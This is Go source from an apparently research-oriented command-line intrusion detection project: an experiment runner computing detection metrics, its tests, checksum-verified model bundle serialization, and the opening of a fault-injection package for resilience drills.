		if err != nil {
			return fmt.Errorf("core: evaluating %s run %d: %w", name, run, err)
		}
		perRun[name] = append(perRun[name], rep)
		if run == 0 {
			run0Scores[name] = scores
			run0Thresholds[name] = rep.Threshold
		}
		return nil
	}

	for run := 0; run < cfg.Runs; run++ {
		seed := cfg.Seed + int64(run)*1000

		ccfg := cfg.Classifier
		ccfg.Seed = seed
		clf, err := pl.NewClassifier(keptTrain, trainLabels, ccfg)
		if err != nil {
			return nil, err
		}
		if err := record(MethodClassification, run, clf.ScoreFeatures(testFeats), false); err != nil {
			return nil, err
		}
		if run == 0 {
			run0Clf = clf
		}

		mcfg := cfg.Classifier
		mcfg.Seed = seed + 1
		mclf, err := pl.NewClassifier(trainContexts, trainLabels, mcfg)
		if err != nil {
			return nil, err
		}
		mscores, err := mclf.Score(testContexts)
		if err != nil {
			return nil, err
		}
		if err := record(MethodClassMulti, run, mscores, true); err != nil {
			return nil, err
		}

		rcfg := cfg.Recons
		rcfg.Seed = seed + 2
		rec, err := pl.NewReconstruction(keptTrain, trainLabels, rcfg)
		if err != nil {
			return nil, err
		}
		rscores, err := rec.Score(testLines)
		if err != nil {
			return nil, err
		}
		if err := record(MethodReconstruction, run, rscores, false); err != nil {
			return nil, err
		}
		logf("run %d/%d complete", run+1, cfg.Runs)
	}

	// Retrieval needs no tuning: a single run (as in the paper).
	ret, err := pl.NewRetrieval(keptTrain, trainLabels, cfg.RetrievalK)
	if err != nil {
		return nil, err
	}
	retScores := make([]float64, len(items))
	for i := 0; i < testEmb.Rows; i++ {
		retScores[i] = ret.Retrieval().Score(testEmb.Row(i))
	}
	if err := record(MethodRetrieval, 0, retScores, false); err != nil {
		return nil, err
	}

	if cfg.Ensemble {
		ens := ensembleScores([][]float64{
			run0Scores[MethodClassification],
			run0Scores[MethodReconstruction],
			run0Scores[MethodRetrieval],
		})
		if err := record(MethodEnsemble, 0, ens, false); err != nil {
			return nil, err
		}
	}

	// ---- Aggregate Tables I & II.
	order := []string{MethodReconstruction, MethodClassification, MethodClassMulti, MethodRetrieval}
	if cfg.Ensemble {
		order = append(order, MethodEnsemble)
	}
	for _, name := range order {
		reps := perRun[name]
		me := MethodEval{
			Name:        name,
			Runs:        len(reps),
			SkipOverall: name == MethodClassMulti,
			POAt:        make(map[int]MethodStat, len(cfg.TopVs)),
		}
		var pos, pois, recalls []float64
		for _, rep := range reps {
			pos = append(pos, rep.PO)
			pois = append(pois, rep.POAndI)
			recalls = append(recalls, rep.InBoxRecall)
		}
		me.PO.Mean, me.PO.Std = metrics.MeanStd(pos)
		me.POI.Mean, me.POI.Std = metrics.MeanStd(pois)
		me.InBoxRecall.Mean, me.InBoxRecall.Std = metrics.MeanStd(recalls)
		for _, v := range cfg.TopVs {
			var vals []float64
			for _, rep := range reps {
				vals = append(vals, rep.POAt[v])
			}
			var st MethodStat
			st.Mean, st.Std = metrics.MeanStd(vals)
			me.POAt[v] = st
		}
		res.Methods = append(res.Methods, me)
	}

	// ---- §V-B F1 comparison, on run 0 of classification-based tuning.
	clfScored := metrics.Dedup(buildScored(items, run0Scores[MethodClassification], false))
	f1cmp, err := metrics.CompareWithIDS(clfScored, run0Thresholds[MethodClassification])
	if err != nil {
		return nil, err
	}
	res.F1 = f1cmp

	// ---- §III unsupervised PCA analysis.
	unsup, err := unsupAnalysis(pl, keptTrain, items, testEmb)
	if err != nil {
		return nil, err
	}
	res.Unsup = *unsup

	// ---- Table III generalization cases, scored by the run-0 classifier.
	th := run0Thresholds[MethodClassification]
	for _, pair := range corpus.TableIIIPairs() {
		scores, err := run0Clf.Score([]string{pair[0], pair[1]})
		if err != nil {
			return nil, err
		}
		res.TableIII = append(res.TableIII, GeneralizationCase{
			InBox: pair[0], OutOfBox: pair[1],
			InScore: scores[0], OutScore: scores[1],
			OutDetected: scores[1] >= th,
		})
	}

	// ---- §V-C preference analysis on run-0 scores.
	res.Preference = preferenceAnalysis(items, run0Scores, run0Thresholds)
	return res, nil
}

func countTrue(xs []bool) int {
	n := 0
	for _, x := range xs {
		if x {
			n++
		}
	}
	return n
}

// buildScored converts items+scores into the metrics input. useContext
// selects the multi-line text for de-duplication (the paper notes the
// multi-line test set de-duplicates differently).
func buildScored(items []testItem, scores []float64, useContext bool) []metrics.Scored {
	out := make([]metrics.Scored, len(items))
	for i, it := range items {
		line := it.line
		if useContext {
			line = it.context
		}
		out[i] = metrics.Scored{
			Line:          line,
			Score:         scores[i],
			TrueIntrusion: it.sample.Label == corpus.Intrusion,
			IDSFlagged:    it.flagged,
		}
	}
	return out
}

// ensembleScores rank-normalizes each method's scores to [0,1] and
// averages them — the §V-C "ensemble of all these methods" future work.
func ensembleScores(all [][]float64) []float64 {
	n := len(all[0])
	out := make([]float64, n)
	for _, scores := range all {
		ranks := rankNormalize(scores)
		for i, r := range ranks {
			out[i] += r / float64(len(all))
		}
	}
	return out
}

// rankNormalize maps scores to their percentile rank in [0,1].
func rankNormalize(scores []float64) []float64 {
	n := len(scores)
	idx := make([]int, n)
	for i := range idx {
		idx[i] = i
	}
	sort.SliceStable(idx, func(a, b int) bool { return scores[idx[a]] < scores[idx[b]] })
	out := make([]float64, n)
	if n == 1 {
		out[0] = 1
		return out
	}
	for r, i := range idx {
		out[i] = float64(r) / float64(n-1)
	}
	return out
}

// unsupAnalysis reproduces §III: fit PCA on training embeddings, rank test
// lines by reconstruction error, locate masscan and the weird-benign false
// positives.
func unsupAnalysis(pl *Pipeline, keptTrain []string, items []testItem, testEmb *tensor.Matrix) (*UnsupStats, error) {
	trainEmb, err := tuning.EmbedLines(pl.Model.Encoder, pl.Tok, keptTrain)
	if err != nil {
		return nil, err
	}
	det := &anomaly.PCADetector{}
	if err := det.Fit(trainEmb); err != nil {
		return nil, err
	}
	type ranked struct {
		score  float64
		family string
	}
	seen := make(map[string]bool, len(items))
	var rankedItems []ranked
	for i, it := range items {
		if seen[it.line] {
			continue
		}
		seen[it.line] = true
		rankedItems = append(rankedItems, ranked{score: det.Score(testEmb.Row(i)), family: it.sample.Family})
	}
	sort.SliceStable(rankedItems, func(a, b int) bool { return rankedItems[a].score > rankedItems[b].score })

	stats := &UnsupStats{MasscanBestRank: -1}
	for r, it := range rankedItems {
		if it.family == "masscan" {
			stats.MasscanBestRank = r + 1
			break
		}
	}
	for r, it := range rankedItems {
		if r < 10 {
			stats.Top10Families = append(stats.Top10Families, it.family)
		}
		if r < 50 && it.family == "weird" {
			stats.WeirdBenignInTop50++
		}
		if r >= 50 {
			break
		}
	}
	return stats, nil
}

// preferenceAnalysis counts, per attack family, how many out-of-box
// intrusion lines each method detects at its run-0 threshold (§V-C).
func preferenceAnalysis(items []testItem, scores map[string][]float64, thresholds map[string]float64) []FamilyPref {
	methods := []string{MethodClassification, MethodClassMulti, MethodReconstruction, MethodRetrieval}
	byFamily := map[string]*FamilyPref{}
	for i, it := range items {
		if it.sample.Label != corpus.Intrusion || it.sample.InBox {
			continue
		}
		fp := byFamily[it.sample.Family]
		if fp == nil {
			fp = &FamilyPref{Family: it.sample.Family, Detected: make(map[string]int)}
			byFamily[it.sample.Family] = fp
		}
		fp.TotalOOB++
		for _, m := range methods {
			s, ok := scores[m]
			if !ok || i >= len(s) {
				continue
			}
			if s[i] >= thresholds[m] {
				fp.Detected[m]++
			}
		}
	}
	fams := make([]string, 0, len(byFamily))
	for f := range byFamily {
		fams = append(fams, f)
	}
	sort.Strings(fams)
	out := make([]FamilyPref, 0, len(fams))
	for _, f := range fams {
		out = append(out, *byFamily[f])
	}
	return out
}
