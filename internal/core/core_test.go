package core

import (
	"strings"
	"sync"
	"testing"

	"clmids/internal/corpus"
)

// The tiny end-to-end experiment takes tens of seconds; run it once and
// share the results across assertions.
var (
	expOnce sync.Once
	expRes  *Results
	expErr  error
)

func tinyResults(t *testing.T) *Results {
	t.Helper()
	expOnce.Do(func() {
		cfg := TinyExperiment()
		expRes, expErr = Run(cfg)
	})
	if expErr != nil {
		t.Fatalf("Run(TinyExperiment): %v", expErr)
	}
	return expRes
}

func TestPipelineBuild(t *testing.T) {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 400
	ccfg.TestLines = 100
	train, _, err := corpus.Generate(ccfg)
	if err != nil {
		t.Fatal(err)
	}
	pcfg := TinyExperiment().Pipeline
	pl, err := BuildPipeline(train.Lines(), pcfg)
	if err != nil {
		t.Fatal(err)
	}
	if pl.Tok.VocabSize() == 0 || pl.Model == nil || pl.Pre == nil {
		t.Fatal("pipeline incomplete")
	}
	if len(pl.History.EpochLoss) == 0 {
		t.Fatal("no pre-training history")
	}
	clone, err := pl.CloneModel()
	if err != nil {
		t.Fatalf("CloneModel: %v", err)
	}
	// Mutating the clone must not affect the original.
	clone.Encoder.TokEmb.W.Val.Data[0] += 100
	if pl.Model.Encoder.TokEmb.W.Val.Data[0] == clone.Encoder.TokEmb.W.Val.Data[0] {
		t.Fatal("CloneModel aliases parameters")
	}
}

func TestExperimentProducesAllArtifacts(t *testing.T) {
	res := tinyResults(t)

	// Fig. 2: some lines must be dropped by both filters.
	if res.Fig2.DroppedInvalid == 0 {
		t.Error("Fig2: no invalid lines dropped")
	}
	if res.Fig2.Kept == 0 || len(res.Fig2.TopCommands) == 0 {
		t.Error("Fig2: no kept lines or no frequency table")
	}

	// All four methods (plus ensemble if enabled) must be present.
	for _, name := range []string{MethodReconstruction, MethodClassification, MethodClassMulti, MethodRetrieval} {
		m := res.Method(name)
		if m == nil {
			t.Fatalf("method %s missing", name)
		}
		if m.Runs == 0 {
			t.Errorf("method %s has no runs", name)
		}
		for v, st := range m.POAt {
			if st.Mean < 0 || st.Mean > 1 {
				t.Errorf("%s PO@%d = %v outside [0,1]", name, v, st.Mean)
			}
		}
	}

	// The in-box recall anchor: thresholds are set so flagged lines are
	// recalled (u = 1).
	for _, name := range []string{MethodReconstruction, MethodClassification, MethodRetrieval} {
		m := res.Method(name)
		if m.InBoxRecall.Mean < 0.999 {
			t.Errorf("%s in-box recall %.3f, want ~1.0", name, m.InBoxRecall.Mean)
		}
	}

	// Multi-line PO/PO&I are excluded per the paper.
	if !res.Method(MethodClassMulti).SkipOverall {
		t.Error("multi-line method should skip overall metrics")
	}

	// Table III must cover the paper's six pairs.
	if len(res.TableIII) != 6 {
		t.Errorf("TableIII has %d cases, want 6", len(res.TableIII))
	}

	// F1 comparison must be populated and ours must dominate paper-style
	// (ours catches out-of-box, IDS by definition cannot).
	if res.F1.PaperStyle.Ours.F1 == 0 || res.F1.PaperStyle.IDS.F1 == 0 {
		t.Error("F1 comparison not populated")
	}

	// Preference analysis covers at least a few families.
	if len(res.Preference) < 3 {
		t.Errorf("preference analysis has %d families", len(res.Preference))
	}

	// Unsupervised analysis produced a ranking.
	if len(res.Unsup.Top10Families) != 10 {
		t.Errorf("unsup top-10 has %d entries", len(res.Unsup.Top10Families))
	}
}

func TestExperimentQualitativeShape(t *testing.T) {
	// Shape checks stable at tiny scale (the full shape is validated at
	// small scale by the benchmark harness and recorded in EXPERIMENTS.md):
	// classification-based tuning leads the top-v out-of-box precision and
	// the out-of-box precision PO, and the §V-B F1 ordering holds.
	res := tinyResults(t)
	clf := res.Method(MethodClassification)
	rec := res.Method(MethodReconstruction)
	ret := res.Method(MethodRetrieval)

	smallV := res.Methods[0].minV(t)
	if clf.POAt[smallV].Mean < ret.POAt[smallV].Mean {
		t.Errorf("classification PO@%d %.3f below retrieval %.3f (paper: classification wins top-v)",
			smallV, clf.POAt[smallV].Mean, ret.POAt[smallV].Mean)
	}
	if clf.PO.Mean < rec.PO.Mean {
		t.Errorf("classification PO %.3f below reconstruction %.3f at this scale",
			clf.PO.Mean, rec.PO.Mean)
	}
	if clf.POI.Mean < 0.4 {
		t.Errorf("classification PO&I %.3f too low to be a usable detector", clf.POI.Mean)
	}
	if res.F1.PaperStyle.Ours.F1 < res.F1.PaperStyle.IDS.F1 {
		t.Errorf("paper-style F1 ordering violated: ours %.3f vs IDS %.3f",
			res.F1.PaperStyle.Ours.F1, res.F1.PaperStyle.IDS.F1)
	}
	// Generalization: a majority of the Table III out-of-box variants are
	// detected by the tuned classifier.
	detected := 0
	for _, c := range res.TableIII {
		if c.OutDetected {
			detected++
		}
	}
	if detected < 4 {
		t.Errorf("only %d/6 Table III out-of-box variants detected", detected)
	}
}

// minV returns the smallest configured top-v.
func (m *MethodEval) minV(t *testing.T) int {
	t.Helper()
	best := -1
	for v := range m.POAt {
		if best < 0 || v < best {
			best = v
		}
	}
	if best < 0 {
		t.Fatal("no PO@v recorded")
	}
	return best
}

func TestWriteReport(t *testing.T) {
	res := tinyResults(t)
	var sb strings.Builder
	res.WriteReport(&sb)
	out := sb.String()
	for _, want := range []string{
		"Figure 2", "Table I", "Table II", "Table III",
		"Section III", "Section V-B", "Section V-C",
		MethodClassification, MethodRetrieval,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("report missing %q", want)
		}
	}
}

func TestRankNormalize(t *testing.T) {
	out := rankNormalize([]float64{10, 30, 20})
	want := []float64{0, 1, 0.5}
	for i := range want {
		if out[i] != want[i] {
			t.Fatalf("rankNormalize = %v, want %v", out, want)
		}
	}
	if got := rankNormalize([]float64{5}); got[0] != 1 {
		t.Errorf("singleton rank = %v", got)
	}
}

func TestEnsembleScores(t *testing.T) {
	a := []float64{1, 2, 3}
	b := []float64{3, 2, 1}
	out := ensembleScores([][]float64{a, b})
	// Opposite rankings cancel to the same mid value.
	if out[0] != out[2] {
		t.Fatalf("ensemble = %v", out)
	}
}
