package core

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"time"

	"clmids/internal/bpe"
	"clmids/internal/modality"
	"clmids/internal/model"
	"clmids/internal/preprocess"
	"clmids/internal/tuning"
)

// A scorer bundle is the train-once / serve-many artifact: one directory
// holding everything a serving process needs to score without re-tuning —
// the pre-processing filter state, the BPE tokenizer, the serving backbone
// (for the reconstruction method, the tuned encoder), the method head, and
// a manifest binding them together with per-section checksums.
//
// Layout:
//
//	manifest.json     format version, method, config, provenance,
//	                  content-derived version, per-section sha256
//	preprocess.json   Fig. 2 filter state
//	tokenizer.txt     BPE vocabulary + merges
//	estimator.json    token-length estimator weights (when fitted)
//	model.gob         serving backbone weights
//	scorer.bin        method head (tuning.SaveScorerHead)
//
// Every section serializes deterministically, so re-saving the same built
// scorer reproduces identical checksums and therefore the same derived
// version — bundle versions are content addresses, not timestamps.

// BundleFormat identifies the on-disk bundle layout; LoadScorerBundle
// rejects manifests written by a different major format.
const BundleFormat = "clmids-bundle v1"

// ErrBundleCorrupt flags a bundle that failed integrity verification — an
// unparseable manifest, a section with no checksum, or a section whose
// bytes do not match it. Callers (the /reload path, fault drills)
// distinguish "artifact damaged, keep the old scorer" from configuration
// errors with errors.Is.
var ErrBundleCorrupt = errors.New("core: bundle corrupt")

// ErrModalityMismatch flags a bundle whose modality differs from the one a
// serving process is pinned to. The /reload path treats it like corruption:
// reject the new bundle, keep the old scorer serving.
var ErrModalityMismatch = errors.New("core: bundle modality mismatch")

// File names inside a bundle directory (preprocessFile, tokenizerFile and
// modelFile are shared with the pipeline layout in io.go). quantFile only
// exists in low-precision bundles (manifest Precision != float64): it
// carries the backbone's pre-lowered serving weights — float32 mirrors,
// or int8 channels + scales — so a cold start installs them instead of
// re-converting, and the artifact pins the exact serving weights.
// rarityFile only exists in cascade bundles (manifest Cascade != nil): it
// carries the rung-0 rarity table, and such bundles also carry quant.gob
// (int8) so one artifact cold-starts both model rungs over one backbone.
// estimatorFile only exists when the pipeline's tokenizer carries a fitted
// token-length estimator (manifest Estimator = true): it rides along so a
// served bundle length-buckets without encoding, exactly like the process
// that trained it. The estimate is advisory, so a bundle without the
// section scores identically — just a little slower on cold lines.
const (
	manifestFile  = "manifest.json"
	scorerFile    = "scorer.bin"
	quantFile     = "quant.gob"
	rarityFile    = "rarity.bin"
	estimatorFile = "estimator.json"
)

// BundleProvenance records where a bundle's supervision came from, so a
// fleet operator can tell two same-method bundles apart.
type BundleProvenance struct {
	// BaselineLines is the size of the labeled baseline log the head was
	// tuned on.
	BaselineLines int `json:"baseline_lines"`
	// Seed is the tuning seed.
	Seed int64 `json:"seed"`
	// Corpus describes the baseline source (a path, a generator spec);
	// free-form, informational.
	Corpus string `json:"corpus,omitempty"`
}

// BundleManifest is the bundle's self-description, stored as manifest.json.
type BundleManifest struct {
	Format string `json:"format"`
	// Version identifies the bundle for fleet operations (/stats, /reload
	// logs). When SaveBundle is not given one it derives a content address
	// from the section checksums.
	Version string `json:"version"`
	// Method is the detection method of the head (core.ScorerMethods).
	Method string `json:"method"`
	// Modality names the log modality the stack was trained on (the
	// registered validator/normalizer the filter state requires). Empty in
	// pre-modality bundles and means shell. It is covered by the
	// preprocess.json checksum — the filter state embeds the same name — so
	// a manifest edit cannot silently retarget a bundle.
	Modality string `json:"modality,omitempty"`
	// Config is the ScorerConfig the head was built with.
	Config ScorerConfig `json:"config"`
	// Precision is the serve-path rung the bundle was emitted for; empty
	// or "float64" means the canonical path (no quantized section). Low
	// rungs add the quant.gob section holding the lowered backbone
	// weights, and loading builds the scorer's engine at this precision.
	Precision string `json:"precision,omitempty"`
	// Cascade carries the calibrated cascade thresholds when the bundle was
	// emitted with a rung-0 rarity section (clmtrain -cascade); nil
	// otherwise. Cascade bundles additionally carry quant.gob (int8) so the
	// triage rung cold-starts from pinned weights, and their confirm rung is
	// always the canonical float64 path.
	Cascade *tuning.CascadeParams `json:"cascade,omitempty"`
	// Estimator records that the bundle carries the estimator.json section:
	// the tokenizer's fitted token-length estimator, restored onto the
	// loaded tokenizer so serving buckets batches without encoding.
	Estimator bool `json:"estimator,omitempty"`
	// CreatedUnix is the save time (informational; not part of Version).
	CreatedUnix int64            `json:"created_unix"`
	Provenance  BundleProvenance `json:"provenance"`
	// Checksums maps each section file to its sha256 (hex). Load verifies
	// every section against it before deserializing anything.
	Checksums map[string]string `json:"checksums"`
}

// SaveBundle persists a built scorer as a versioned bundle directory,
// creating it if needed. pl supplies the shared pipeline artifacts (filter
// state, tokenizer); the backbone written is bs.Backbone — for the
// reconstruction method the tuned clone, not pl.Model. An empty version
// derives a content-addressed one from the section checksums. Returns the
// manifest as written.
func SaveBundle(dir string, pl *Pipeline, bs *BuiltScorer, version string) (*BundleManifest, error) {
	method, ok := tuning.ScorerMethod(bs.Scorer)
	if !ok {
		return nil, fmt.Errorf("core: scorer %T has no bundle representation", bs.Scorer)
	}
	if bs.Config.Method != "" && bs.Config.Method != method {
		return nil, fmt.Errorf("core: built scorer is %s but config says %s", method, bs.Config.Method)
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("core: creating %s: %w", dir, err)
	}

	prec := bs.Config.Precision
	if !prec.Valid() {
		return nil, fmt.Errorf("core: unknown precision %q", prec)
	}
	if bs.Cascade != nil && prec.Low() {
		return nil, fmt.Errorf("core: cascade bundles pin the confirm rung at float64; emit with the default precision")
	}
	sections := []struct {
		name string
		save func(*bytes.Buffer) error
	}{
		{preprocessFile, func(b *bytes.Buffer) error { return pl.Pre.Save(b) }},
		{tokenizerFile, func(b *bytes.Buffer) error { return pl.Tok.Save(b) }},
		{modelFile, func(b *bytes.Buffer) error { return bs.Backbone.Save(b) }},
		{scorerFile, func(b *bytes.Buffer) error { return tuning.SaveScorerHead(b, bs.Scorer) }},
	}
	quantPrec := prec
	if bs.Cascade != nil {
		// A cascade bundle serves its confirm rung at float64 but must
		// cold-start the int8 triage rung from pinned weights too.
		quantPrec = model.PrecisionInt8
	}
	if quantPrec.Low() {
		// The quantized section is derived deterministically from the
		// float64 backbone (Lowered caches the conversion), so re-saving
		// reproduces identical bytes and the content-derived version is
		// stable across float64 and low-precision emissions of the same
		// training run only differing in this section.
		sections = append(sections, struct {
			name string
			save func(*bytes.Buffer) error
		}{quantFile, func(b *bytes.Buffer) error {
			lw, err := bs.Backbone.Encoder.Lowered(quantPrec)
			if err != nil {
				return err
			}
			return model.SaveLowWeights(b, lw)
		}})
	}
	if bs.Cascade != nil {
		sections = append(sections, struct {
			name string
			save func(*bytes.Buffer) error
		}{rarityFile, func(b *bytes.Buffer) error { return bs.Cascade.Rarity.Save(b) }})
	}
	est := pl.Tok.Estimator()
	if est != nil {
		sections = append(sections, struct {
			name string
			save func(*bytes.Buffer) error
		}{estimatorFile, func(b *bytes.Buffer) error { return est.Save(b) }})
	}
	m := &BundleManifest{
		Format:      BundleFormat,
		Version:     version,
		Method:      method,
		Modality:    pl.Pre.Modality(),
		Config:      bs.Config,
		CreatedUnix: time.Now().Unix(),
		Provenance:  bs.Provenance,
		Checksums:   make(map[string]string, len(sections)),
	}
	if prec.Low() {
		m.Precision = string(prec)
	}
	if bs.Cascade != nil {
		params := bs.Cascade.Params
		m.Cascade = &params
	}
	m.Estimator = est != nil
	for _, s := range sections {
		var buf bytes.Buffer
		if err := s.save(&buf); err != nil {
			return nil, fmt.Errorf("core: serializing bundle %s: %w", s.name, err)
		}
		if err := os.WriteFile(filepath.Join(dir, s.name), buf.Bytes(), 0o644); err != nil {
			return nil, fmt.Errorf("core: writing bundle %s: %w", s.name, err)
		}
		sum := sha256.Sum256(buf.Bytes())
		m.Checksums[s.name] = hex.EncodeToString(sum[:])
	}
	if m.Version == "" {
		m.Version = deriveVersion(m.Checksums)
	}

	mj, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		return nil, fmt.Errorf("core: encoding manifest: %w", err)
	}
	if err := os.WriteFile(filepath.Join(dir, manifestFile), append(mj, '\n'), 0o644); err != nil {
		return nil, fmt.Errorf("core: writing manifest: %w", err)
	}
	return m, nil
}

// deriveVersion hashes the section checksums (in file-name order) into a
// short content address: two bundles with identical sections always get
// the same derived version, regardless of when or where they were saved.
func deriveVersion(checksums map[string]string) string {
	names := make([]string, 0, len(checksums))
	for name := range checksums {
		names = append(names, name)
	}
	sort.Strings(names)
	h := sha256.New()
	for _, name := range names {
		fmt.Fprintf(h, "%s %s\n", name, checksums[name])
	}
	return hex.EncodeToString(h.Sum(nil))[:12]
}

// SectionFiles lists the data files a manifest's bundle is made of, in
// layout order, manifest.json excluded — the surface a fault drill can
// corrupt or truncate to exercise the load-time verification.
func SectionFiles(m *BundleManifest) []string {
	names := []string{preprocessFile, tokenizerFile, modelFile, scorerFile}
	if model.Precision(m.Precision).Low() || m.Cascade != nil {
		names = append(names, quantFile)
	}
	if m.Cascade != nil {
		names = append(names, rarityFile)
	}
	if m.Estimator {
		names = append(names, estimatorFile)
	}
	return names
}

// ManifestFile is the manifest's file name inside a bundle directory.
const ManifestFile = manifestFile

// LoadedBundle is a bundle restored for serving: every artifact plus the
// ready-to-score engine-backed scorer (Replicable, so sharded services
// fan it out with ReplicateScorer as usual).
type LoadedBundle struct {
	Manifest BundleManifest
	Pre      *preprocess.Preprocessor
	Tok      *bpe.Tokenizer
	Model    *model.Model
	Scorer   tuning.Scorer
	// Cascade is the restored cascade artifact of a cascade bundle, nil
	// otherwise. Scorer stays the plain confirm-rung scorer either way;
	// callers that opted in (-cascade) compose the two with BuildCascade.
	Cascade *CascadeArtifact
}

// Modality returns the canonical modality the bundle was trained on
// ("shell" for pre-modality bundles).
func (lb *LoadedBundle) Modality() string {
	return modality.Canonical(lb.Manifest.Modality)
}

// CheckModality rejects a bundle whose modality differs from the one the
// caller is pinned to, with an error wrapping ErrModalityMismatch. An empty
// want means shell.
func (lb *LoadedBundle) CheckModality(want string) error {
	if got, pinned := lb.Modality(), modality.Canonical(want); got != pinned {
		return fmt.Errorf("%w: bundle is %q, server pinned to %q", ErrModalityMismatch, got, pinned)
	}
	return nil
}

// LoadScorerBundle restores a bundle saved by SaveBundle: it verifies the
// manifest format and every section checksum, then deserializes the
// backbone, tokenizer, and head into the same LRU-cached engine-backed
// scorer BuildScorer would have produced — no baseline corpus, no tuning.
// Scores from a float64 bundle are byte-identical to the freshly built
// scorer's; a low-precision bundle additionally installs its quantized
// section into the backbone and serves at the manifest's precision.
func LoadScorerBundle(dir string) (*LoadedBundle, error) {
	mj, err := os.ReadFile(filepath.Join(dir, manifestFile))
	if err != nil {
		return nil, fmt.Errorf("core: reading bundle manifest: %w", err)
	}
	var m BundleManifest
	if err := json.Unmarshal(mj, &m); err != nil {
		return nil, fmt.Errorf("%w: parsing manifest: %v", ErrBundleCorrupt, err)
	}
	if m.Format != BundleFormat {
		return nil, fmt.Errorf("core: unknown bundle format %q (this build reads %q)", m.Format, BundleFormat)
	}
	if err := ValidateMethod(m.Method); err != nil {
		return nil, fmt.Errorf("core: bundle manifest: %w", err)
	}
	if err := modality.Validate(m.Modality); err != nil {
		return nil, fmt.Errorf("core: bundle manifest: %w", err)
	}
	prec, err := model.ParsePrecision(m.Precision)
	if err != nil {
		return nil, fmt.Errorf("core: bundle manifest: %w", err)
	}
	if m.Cascade != nil {
		if prec.Low() {
			return nil, fmt.Errorf("%w: cascade bundle declares low confirm precision %q", ErrBundleCorrupt, m.Precision)
		}
		if err := m.Cascade.Validate(); err != nil {
			return nil, fmt.Errorf("%w: %v", ErrBundleCorrupt, err)
		}
	}

	// Read and verify every section before deserializing any of them: a
	// truncated or tampered file fails with a checksum error naming the
	// section, not a decoder panic deep inside gob.
	names := SectionFiles(&m)
	raw := make(map[string][]byte, len(names))
	for _, name := range names {
		want, ok := m.Checksums[name]
		if !ok {
			return nil, fmt.Errorf("%w: manifest lists no checksum for %s", ErrBundleCorrupt, name)
		}
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			return nil, fmt.Errorf("core: reading bundle section: %w", err)
		}
		sum := sha256.Sum256(data)
		if got := hex.EncodeToString(sum[:]); got != want {
			return nil, fmt.Errorf("%w: section %s checksum mismatch (manifest %s, file %s)",
				ErrBundleCorrupt, name, want[:12], got[:12])
		}
		raw[name] = data
	}

	lb := &LoadedBundle{Manifest: m}
	if lb.Pre, err = preprocess.Load(bytes.NewReader(raw[preprocessFile])); err != nil {
		return nil, fmt.Errorf("core: bundle %s: %w", preprocessFile, err)
	}
	if want := modality.Canonical(m.Modality); lb.Pre.Modality() != want {
		// The filter state is sha256-verified, so a disagreement means the
		// manifest was edited by hand — treat it as corruption.
		return nil, fmt.Errorf("%w: manifest says modality %q but filter state is %q",
			ErrBundleCorrupt, want, lb.Pre.Modality())
	}
	if lb.Tok, err = bpe.Load(bytes.NewReader(raw[tokenizerFile])); err != nil {
		return nil, fmt.Errorf("core: bundle %s: %w", tokenizerFile, err)
	}
	if m.Estimator {
		est, err := bpe.LoadEstimator(bytes.NewReader(raw[estimatorFile]))
		if err != nil {
			return nil, fmt.Errorf("core: bundle %s: %w", estimatorFile, err)
		}
		lb.Tok.SetEstimator(est)
	}
	if lb.Model, err = model.Load(bytes.NewReader(raw[modelFile])); err != nil {
		return nil, fmt.Errorf("core: bundle %s: %w", modelFile, err)
	}
	if wantQuant := quantPrecOf(&m); wantQuant.Low() {
		lw, err := model.LoadLowWeights(bytes.NewReader(raw[quantFile]))
		if err != nil {
			return nil, fmt.Errorf("core: bundle %s: %w", quantFile, err)
		}
		if lw.Precision() != wantQuant {
			return nil, fmt.Errorf("core: bundle %s is %s but manifest says %s",
				quantFile, lw.Precision(), wantQuant)
		}
		// Install the pinned serving weights; the engine built below finds
		// them in the encoder's cache instead of re-lowering.
		if err := lb.Model.Encoder.SetLowered(lw); err != nil {
			return nil, fmt.Errorf("core: bundle %s: %w", quantFile, err)
		}
	}
	scorer, method, err := tuning.LoadScorerHeadPrec(bytes.NewReader(raw[scorerFile]), lb.Model.Encoder, lb.Tok, prec)
	if err != nil {
		return nil, fmt.Errorf("core: bundle %s: %w", scorerFile, err)
	}
	if method != m.Method {
		return nil, fmt.Errorf("core: bundle head is %s but manifest says %s", method, m.Method)
	}
	lb.Scorer = scorer
	if m.Cascade != nil {
		rt, err := tuning.LoadRarity(bytes.NewReader(raw[rarityFile]))
		if err != nil {
			return nil, fmt.Errorf("core: bundle %s: %w", rarityFile, err)
		}
		if rt.Modality() != lb.Modality() {
			// Like the filter-state cross-check: the section is
			// sha256-verified, so a disagreement means a hand-edited manifest.
			return nil, fmt.Errorf("%w: manifest says modality %q but rarity table is %q",
				ErrBundleCorrupt, lb.Modality(), rt.Modality())
		}
		lb.Cascade = &CascadeArtifact{Params: *m.Cascade, Rarity: rt}
	}
	return lb, nil
}

// quantPrecOf is the precision the bundle's quant.gob section carries:
// the manifest precision for low-precision bundles, int8 for cascade
// bundles (whose manifest precision is the float64 confirm rung).
func quantPrecOf(m *BundleManifest) model.Precision {
	if p := model.Precision(m.Precision); p.Low() {
		return p
	}
	if m.Cascade != nil {
		return model.PrecisionInt8
	}
	return model.PrecisionFloat64
}
