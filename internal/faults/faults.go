// Package faults holds seeded, deterministic fault injectors for
// resilience drills: a scorer wrapper that errors, panics, or stalls on a
// schedule; a gate that wedges a shard's scoring mid-flight; and helpers
// that damage a bundle copy for /reload drills. Everything hides behind
// the existing tuning.Scorer surface, so the serving stack under test is
// the production stack — no test-only code paths inside the detector.
//
// Determinism: injectors decide from a shared call counter and a seed
// (call n misbehaves iff n % Every == Seed % Every), never from clocks or
// math/rand, so a chaos run replays exactly and a failure seed names the
// failing schedule. A shared Control arms and clears every injector
// wrapping it at once — fault phase, then clean phase, in one process.
package faults

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"clmids/internal/model"
	"clmids/internal/tuning"
)

// ErrInjected marks a failure manufactured by an injector; drills assert
// with errors.Is that observed failures are theirs and not real bugs.
var ErrInjected = errors.New("faults: injected failure")

// Control arms and observes a set of injectors. The call counter is shared
// across every replica wrapping the same Control, so a schedule of "every
